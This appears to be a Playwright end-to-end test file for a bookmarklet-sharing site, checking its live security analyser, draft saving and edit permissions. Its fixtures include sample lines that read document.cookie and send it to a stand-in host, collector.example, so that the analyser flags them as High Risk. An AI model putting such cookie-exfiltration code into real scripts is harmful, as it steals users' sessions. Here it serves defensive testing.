import { expect, type Page, test } from "@playwright/test";
import { expectNoViolations } from "../support/axe.ts";
import { openCodeTab, showCodeTab } from "../support/code-tab.ts";
import { hubOrigin, publishableKey, signIn, watchForErrors } from "../support/hub.ts";
import { untilLive } from "../support/live-page.ts";

const LEAK = `const words = document.title.split(" ");
const session = document.cookie;
fetch("https://collector.example/in", { method: "POST", body: session });
alert(words.length + " words");
`;
const HARMLESS = `const words = document.title.split(" ");
alert(words.length + " words");
`;

const code = (page: Page) => page.getByRole("textbox", { name: "Bookmarklet Code" });
/** Labels of the marks in the gutter. */
const marks = (page: Page) => page.locator("[data-code-editor] [data-finding]:not([aria-label=''])");
const check = (page: Page) => page.getByRole("region", { name: "Security check of what you are typing" });

/** Replaces the text of the editor. */
async function write(page: Page, text: string): Promise<void> {
	await code(page).click();
	await page.keyboard.press("Control+a");
	await page.keyboard.insertText(text);
}

async function describe(page: Page, title: string): Promise<void> {
	await page.getByLabel("Title").fill(title);
	await page.getByLabel("Description").fill("Counts the words of the title of a page.");
	await page.getByLabel("Category").selectOption("productivity");
	await page.getByLabel("Tags").fill("Words, count");
}

/** Level and number of every version of a script, as the database has them. */
async function storedRatings(page: Page, scriptId: string): Promise<Record<string, string>> {
	const answer = await page.request.get(`${hubOrigin()}/rest/v1/versions`, {
		params: { select: "semver,risk_level", bookmarklet_id: `eq.${scriptId}` },
		headers: { apikey: await publishableKey(page) },
	});
	const rows = (await answer.json()) as { semver: string; risk_level: string }[];
	return Object.fromEntries(rows.map(({ semver, risk_level }) => [semver, risk_level]));
}

/** The code of the draft of a new script, as this browser keeps it. */
function keptCode(page: Page): Promise<unknown> {
	return page.evaluate(
		() =>
			new Promise((resolve) => {
				const opening = indexedDB.open("scriptorium-drafts");
				opening.onsuccess = () => {
					const database = opening.result;
					const reading = database.transaction("scripts").objectStore("scripts").get("new");
					reading.onsuccess = () => {
						database.close();
						resolve(reading.result?.values.code);
					};
				};
			}),
	);
}

test("a script that leaks a cookie is High Risk with the line; fixed it is Low, and the old version stays High", async ({
	page,
}) => {
	const errors = watchForErrors(page);
	await signIn(page, "Arthur Author", "/create");
	await showCodeTab(page);
	await describe(page, "Title word count");
	await write(page, LEAK);
	// Independent of the speed of the analysis: the page first gets the state without a report.
	let isSeen = false;
	await page.route(/\/rest\/v1\/versions\?.*security_reports/, (route) =>
		isSeen ? route.continue() : route.fulfill({ json: [{ security_reports: [] }] }),
	);
	await page.getByRole("button", { name: "Create Bookmarklet" }).click();
	await expect(page.getByText("Bookmarklet created")).toBeVisible();
	await page.waitForURL(/\/bookmarklet\/[0-9a-f-]{36}$/);
	const scriptId = new URL(page.url()).pathname.split("/").at(-1) ?? "";
	const security = page.getByRole("region", { name: "Security Analysis" });
	await expect(security.getByText("Analyzing…")).toBeVisible();
	isSeen = true;
	await expect(security.getByText("High Risk", { exact: true })).toBeVisible();
	await security.getByRole("link", { name: "line 3" }).first().click();
	await expect(page).toHaveURL(/#L3$/);

	await page.getByRole("link", { name: "Edit" }).click();
	await expect(page.getByRole("heading", { level: 1, name: "Edit Your Script" })).toBeVisible();
	await expect(page.getByLabel("Title")).toHaveValue("Title word count");
	await expect(page.getByLabel("Tags")).toHaveValue(/words/);
	await expect(marks(page).first()).toHaveAttribute("aria-label", /^Line 3: /);
	await write(page, HARMLESS);
	await expect(marks(page)).toHaveCount(0);
	await page.getByRole("button", { name: "Update Bookmarklet" }).click();
	await expect(page.getByText("Bookmarklet updated")).toBeVisible();
	await expect(security.getByText("Low Risk", { exact: true })).toBeVisible();

	await page.getByRole("button", { name: "View version history" }).click();
	const versions = page.getByRole("dialog").getByRole("listitem");
	await expect(versions).toHaveCount(2);
	await expect(versions.filter({ hasText: "1.1.0" })).toContainText("Low Risk");
	await expect(versions.filter({ hasText: "1.0.0" })).toContainText("High Risk");
	expect(await storedRatings(page, scriptId)).toEqual({ "1.0.0": "red", "1.1.0": "green" });
	expect(errors).toEqual([]);
});

test("marks appear while typing; a syntax error is 'Not rated' with the reason, never Low", { tag: "@soak" }, async ({
	page,
}) => {
	const errors = watchForErrors(page);
	// The Copilot tab asks which models there are and which ideas are popular: without a body.
	const sent: string[] = [];
	page.on("request", (request) => {
		if (request.url().startsWith(hubOrigin()) && request.method() !== "GET") sent.push(request.url());
		if (request.url().includes("collector")) sent.push(request.url());
	});
	await openCodeTab(page);
	await code(page).click();
	await code(page).pressSequentially('fetch("https://collector.example/?" + document.cookie);');
	await expect(marks(page)).toHaveCount(1);
	await expect(marks(page)).toHaveAttribute("aria-label", /^Line 1: (Critical|High): \S/);
	await expect(check(page)).toContainText("High Risk");
	await expectNoViolations(page, "the editor with a mark");

	await page.getByRole("tab", { name: "Security" }).click();
	const panel = page.getByRole("region", { name: "Security check", exact: true });
	await expect(panel).toContainText(/Score \d+ out of 100/);
	await expectNoViolations(page, "the security tab with a finding");
	await panel.getByRole("button", { name: "Go to line 1 in the editor" }).click();
	await expect(code(page)).toBeFocused();

	await page.keyboard.press("Control+End");
	await code(page).pressSequentially("\nlet = (");
	await expect(check(page)).toContainText("Not rated");
	await expect(check(page)).toContainText(/Line 2/);
	await expect(check(page)).not.toContainText("Low Risk");
	await page.getByRole("tab", { name: "Security" }).click();
	await expect(panel).toContainText("Not rated");
	await expect(panel).toContainText(/Line 2/);
	await expect(panel).not.toContainText(/Score|Low Risk/);
	// Unsaved code stays private: nothing is sent to the hub.
	expect(sent.filter((url) => !url.endsWith("/rpc/suggestion_picks"))).toEqual([]);
	expect(errors).toEqual([]);
});

test("a check that hangs, crashes or cannot be loaded is 'Not rated', and editing continues", { tag: "@soak" }, async ({
	page,
}) => {
	const workers = {
		hangs: "postMessage({ kind: 'ready' }); addEventListener('message', () => { for (;;); });",
		breaks: "postMessage({ kind: 'ready' }); addEventListener('message', () => { throw new Error('boom'); });",
		missing: null,
	} as const;
	const said = {
		hangs: /took longer than 3 seconds/,
		breaks: /check failed/,
		missing: /could not start/,
	} as const;
	for (const kind of ["hangs", "breaks", "missing"] as const) {
		const body = workers[kind];
		await page.route(/analysis-worker/, (route) =>
			body === null ? route.fulfill({ status: 404 }) : route.fulfill({ contentType: "text/javascript", body }),
		);
		await openCodeTab(page);
		await code(page).click();
		await code(page).pressSequentially("alert(1)");
		await expect(check(page)).toContainText("Not rated");
		await expect(check(page)).toContainText(said[kind]);
		await page.unroute(/analysis-worker/);
		await code(page).pressSequentially(";");
		await expect(check(page)).toContainText("Low Risk");
	}
});

test("input persists as a draft over a reload, and over a sign-in before the save", { tag: "@soak" }, async ({
	page,
}) => {
	await openCodeTab(page);
	await describe(page, "Words before sign-in");
	await write(page, HARMLESS);
	await expect.poll(() => keptCode(page)).toBe(HARMLESS);
	await page.getByRole("button", { name: "Create Bookmarklet" }).click();
	const prompt = page.getByRole("dialog", { name: "Sign in required" });
	await expect(prompt).toContainText("You need to be signed in to create and save bookmarklets.");
	await expectNoViolations(page, "the sign-in prompt");
	await page.keyboard.press("Escape");

	await page.reload();
	await page.getByRole("button", { name: "Restore draft" }).click();
	await expect(page.getByLabel("Title")).toHaveValue("Words before sign-in");
	await expect(code(page)).toContainText("alert(words.length");

	await page.getByRole("button", { name: "Create Bookmarklet" }).click();
	await prompt.getByRole("button", { name: "Sign in" }).click();
	await page.waitForURL(/\/auth$/);
	await page.getByRole("button", { name: /google/i }).click();
	await page.getByRole("button", { name: /Arthur Author/ }).click();
	await expect(page.getByText("Bookmarklet created")).toBeVisible();
	await expect(page.getByRole("heading", { level: 1, name: "Words before sign-in" })).toBeVisible();
	// It is saved: nothing is left to restore.
	await page.goto(`${hubOrigin()}/create`);
	await untilLive(page);
	await expect(page.getByRole("heading", { level: 1, name: "Create a Userscript" })).toBeVisible();
	await expect(page.getByLabel("Title")).toHaveValue("");
	await expect(page.getByRole("button", { name: "Restore draft" })).toHaveCount(0);
});

test("only its owner can edit a script; concurrent saves lose no line", { tag: "@soak" }, async ({ page, browser }) => {
	await signIn(page, "Arthur Author", "/create");
	await showCodeTab(page);
	await describe(page, "Saved from two windows");
	await write(page, HARMLESS);
	await page.getByRole("button", { name: "Create Bookmarklet" }).click();
	await page.waitForURL(/\/bookmarklet\/[0-9a-f-]{36}$/);
	const edit = `${page.url()}/edit`;

	const second = await page.context().newPage();
	await second.goto(edit);
	await page.goto(edit);
	await expect(second.getByLabel("Title")).toHaveValue("Saved from two windows");
	await page.getByLabel("Title").fill("Saved from the first");
	await page.getByRole("button", { name: "Update Bookmarklet" }).click();
	await expect(page.getByText("Bookmarklet updated")).toBeVisible();

	await second.getByLabel("Title").fill("Saved from the second");
	await second.getByRole("button", { name: "Update Bookmarklet" }).click();
	const alert = second.getByRole("alert").filter({ hasText: "Version 1.1.0 was saved elsewhere" });
	await expect(alert).toContainText("What you have typed is still here.");
	await expect(second.getByLabel("Title")).toHaveValue("Saved from the second");
	await second.getByRole("button", { name: "Save on top of version 1.1.0" }).click();
	await expect(second.getByRole("heading", { level: 1, name: "Saved from the second" })).toBeVisible();

	const other = await (await browser.newContext()).newPage();
	await signIn(other, "Rita Reader");
	await other.goto(edit);
	await expect(other.getByRole("heading", { level: 1, name: "Only its owner can edit this script" })).toBeVisible();
	await expectNoViolations(other, "somebody else's script");
	await other.context().close();
});
